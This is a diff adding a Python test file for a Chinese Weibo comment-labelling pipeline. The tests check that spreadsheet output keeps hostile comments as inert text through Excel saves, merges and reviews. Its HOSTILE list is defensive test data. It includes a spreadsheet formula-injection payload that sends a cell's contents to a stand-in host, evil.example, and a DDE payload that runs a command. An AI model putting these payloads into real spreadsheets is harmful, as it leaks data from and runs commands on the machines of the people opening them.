@@ -1,0 +1,188 @@
+"""Issue 26: the group's data survives every path. Hostile comments stay text in every sheet the project writes and
+come back exactly; no job writes over its own inputs or into another job's directory; carried columns keep their
+type and value; encodings are detected honestly; label cells are read by one rule; a full or read-only disk is a
+message; every piece of advice names an option the job has."""
+
+from __future__ import annotations
+
+import re
+import zipfile
+from pathlib import Path
+
+import numpy as np
+import openpyxl
+import pandas as pd
+import yaml
+
+from weibolabel.tables import CELL_LIMIT, read_table, write_table
+
+from helpers.data import NAMES, make_labeled_rows
+from helpers.jobs import run_job
+from helpers.outputs import write_labeled_parquet
+
+# Comments as scrapers deliver them: formulas Excel would run, signs it would read as formulas, characters a
+# worksheet cannot hold, OOXML's own escape written out, hidden characters, a carriage return, a 40,000-character
+# comment.
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?q="&B2,"点这里")',
+    "=_=这期节目太好笑了",
+    "=cmd|' /C calc'!A0",
+    "+86 国宝",
+    "-- 这件文物好美",
+    "@央视新闻 国家宝藏",
+    "文物\x0b真美\x1f",
+    "原样 _x000B_ 与 _x0041_",
+    "\u200b零宽空格",
+    "\ufeff开头有BOM",
+    "行一\r\n行二\r",
+    "长" * 40000,
+]
+LONG = HOSTILE[-1]
+
+
+def expected_text(text: str) -> str:
+    """What a sheet gives back: the text itself, or for one longer than Excel's cell its first 32,767 characters."""
+    return text[:CELL_LIMIT]
+
+
+def cell_types(path: Path, sheet: str | None = None) -> set[str]:
+    """The openpyxl data types of every filled cell (read without evaluating anything): 'f' would be a formula."""
+    workbook = openpyxl.load_workbook(path, data_only=False)
+    worksheet = workbook[sheet] if sheet else workbook.worksheets[0]
+    return {cell.data_type for row in worksheet.iter_rows() for cell in row if cell.value is not None}
+
+
+def save_as_excel_would(path: Path) -> None:
+    """Rewrite `path` the way Excel saves a workbook: its inline strings moved into the shared-string table (where
+    openpyxl reads them differently), escapes kept as written."""
+    with zipfile.ZipFile(path) as source:
+        parts = {name: source.read(name) for name in source.namelist()}
+    strings: list[str] = []
+
+    def shared(match: re.Match) -> str:
+        strings.append(match.group(3))
+        return f'<c {match.group(1)}t="s"{match.group(2)}><v>{len(strings) - 1}</v></c>'
+
+    for name in [n for n in parts if n.startswith("xl/worksheets/sheet")]:
+        inline = r'<c ([^>]*?)t="inlineStr"([^>]*)><is>(.*?)</is></c>'
+        parts[name] = re.sub(inline, shared, parts[name].decode()).encode()
+    table = "".join(f"<si>{inner}</si>" for inner in strings)
+    parts["xl/sharedStrings.xml"] = (
+        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+        f'count="{len(strings)}" uniqueCount="{len(strings)}">{table}</sst>'
+    ).encode()
+    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
+        b"</Types>",
+        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
+        b'spreadsheetml.sharedStrings+xml"/></Types>',
+    )
+    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
+        b"</Relationships>",
+        b'<Relationship Id="rIdShared" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        b'sharedStrings" Target="sharedStrings.xml"/></Relationships>',
+    )
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
+        for name, data in parts.items():
+            target.writestr(name, data)
+
+
+def fill_column(path: Path, column: str, values: dict[int, object]) -> None:
+    """An annotator's edit: cells of `column` filled in by sheet row (2 = first data row), saved."""
+    workbook = openpyxl.load_workbook(path)
+    worksheet = workbook.worksheets[0]
+    letter = {cell.value: cell.column_letter for cell in worksheet[1]}[column]
+    for row, value in values.items():
+        worksheet[f"{letter}{row}"] = value
+    workbook.save(path)
+
+
+# =================================================================== 1-2. every sheet keeps a comment as it is
+def test_the_one_writer_and_reader_round_trip_hostile_texts_also_after_excel_saves(tmp_path, caplog):
+    frame = pd.DataFrame({"Sentence": HOSTILE, "Label": range(len(HOSTILE))})
+    frame.loc[0, "=header"] = "x"  # a column name is written by the same rule
+    path = tmp_path / "t.xlsx"
+    write_table(frame, path)
+    assert cell_types(path) <= {"s", "n"}
+    assert f"{path}: 1 text(s) longer than Excel's 32,767-character cell limit were cut" in caplog.text
+    assert "column 'Sentence', row 13" in caplog.text and "write a .csv or .parquet to keep them whole" in caplog.text
+    back = read_table(path)
+    assert list(back.columns) == ["Sentence", "Label", "=header"]
+    assert back["Sentence"].tolist() == [expected_text(t) for t in HOSTILE]
+    save_as_excel_would(path)
+    again = read_table(path)["Sentence"].tolist()
+    # Excel's save keeps every text, but openpyxl reads Excel's escape of a literal _x000B_ as the escape of the
+    # control character (docs/annotation_loop.md): that one literal is the documented exception.
+    assert again[7] == "原样 \x0b 与 _x0041_"
+    assert again[:7] + again[8:] == [expected_text(t) for t in HOSTILE[:7] + HOSTILE[8:]]
+
+
+def test_hostile_comments_go_through_the_annotation_loop_as_text_and_come_back_exactly(tmp_path, capsys, caplog):
+    probs = np.tile([0.40, 0.35, 0.15, 0.10], (len(HOSTILE), 1))
+    probs[::2] = [0.10, 0.15, 0.35, 0.40]
+    corpus = write_labeled_parquet(tmp_path / "labels.parquet", HOSTILE, probs)
+    sheet = tmp_path / "to_annotate.xlsx"
+    args = ["--input", str(corpus), "--k", str(len(HOSTILE)), "--output", str(sheet)]
+    status, _, err = run_job("select_for_annotation.py", args, capsys)
+    assert status == 0, err
+    assert cell_types(sheet) <= {"s", "n"} and cell_types(sheet, "labels") <= {"s", "n"}
+    assert "the annotators see and label the start, which is what merging adds" in caplog.text
+    written = read_table(sheet)
+    assert sorted(written["Sentence"]) == sorted(expected_text(t) for t in HOSTILE)
+
+    # The annotator labels every row in Excel and saves; the merge adds them to an .xlsx training file.
+    fill_column(sheet, "Label", {row: row % 4 for row in range(2, len(HOSTILE) + 2)})
+    save_as_excel_would(sheet)
+    existing = tmp_path / "train.xlsx"
+    write_table(pd.DataFrame({"Sentence": ["主持人讲得真好", "转发微博"], "Label": [0, 3]}), existing)
+    merged = tmp_path / "merged.xlsx"
+    args = ["--annotations", str(sheet), "--existing", str(existing), "--output", str(merged)]
+    status, _, err = run_job("merge_annotations.py", args, capsys)
+    assert status == 0, err
+    assert cell_types(merged) <= {"s", "n"}
+    texts = read_table(merged)["Sentence"].tolist()
+    literal = "原样 _x000B_ 与 _x0041_"  # after Excel's save: the documented exception (see the test above)
+    assert sorted(texts) == sorted(
+        ["主持人讲得真好", "转发微博", *(expected_text(t) if t != literal else "原样 \x0b 与 _x0041_" for t in HOSTILE)]
+    )
+
+
+def run_directory_with(tmp_path: Path, texts: list[str], given: np.ndarray, probs: np.ndarray) -> Path:
+    """A training run's out-of-fold file and config, as find_label_issues reads them."""
+    run = tmp_path / "run"
+    run.mkdir()
+    pd.DataFrame(
+        {
+            "row_id": np.arange(len(texts)),
+            "text": texts,
+            "gold": given,
+            "fold": np.arange(len(texts)) % 3,
+            **{f"prob_{name}": probs[:, i].astype(np.float32) for i, name in enumerate(NAMES)},
+        }
+    ).to_parquet(run / "oof_predictions.parquet")
+    (run / "config.yaml").write_text(yaml.safe_dump({"data": "labeled.xlsx", "header_row": 1, "labels": None}))
+    return run
+
+
+def test_review_sheet_and_reviewed_file_keep_hostile_texts_as_text(tmp_path, capsys):
+    plain = make_labeled_rows(48, seed=2)
+    texts = [*plain["Sentence"], *HOSTILE[:-1]]
+    given = np.array([*plain["Label"], *[0] * (len(HOSTILE) - 1)])
+    probs = np.full((len(texts), 4), 0.02)
+    probs[np.arange(len(plain)), given[: len(plain)]] = 0.94
+    probs[len(plain) :, 1] = 0.94  # the model is sure every hostile row is 'heritage', not the given 'production'
+    data = tmp_path / "labeled.xlsx"
+    write_table(pd.DataFrame({"Sentence": texts, "Label": given}), data)
+    run = run_directory_with(tmp_path, texts, given, probs)
+    status, _, err = run_job("find_label_issues.py", ["--run", str(run), "--output_dir", str(tmp_path / "r")], capsys)
+    assert status == 0, err
+    review = tmp_path / "r" / "label_issues.xlsx"
+    assert cell_types(review) <= {"s", "n"}
+    sheet = read_table(review)
+    assert set(HOSTILE[:-1]) <= set(sheet["Sentence"])
+    fill_column(review, "Decision", {row: "suggested" for row in range(2, len(sheet) + 2)})
+    output = tmp_path / "reviewed.xlsx"
+    args = ["--review", str(review), "--data", str(data), "--output", str(output)]
+    status, _, err = run_job("apply_label_review.py", args, capsys)
+    assert status == 0, err
+    assert cell_types(output) <= {"s", "n"}
+    assert read_table(output)["Sentence"].tolist() == texts
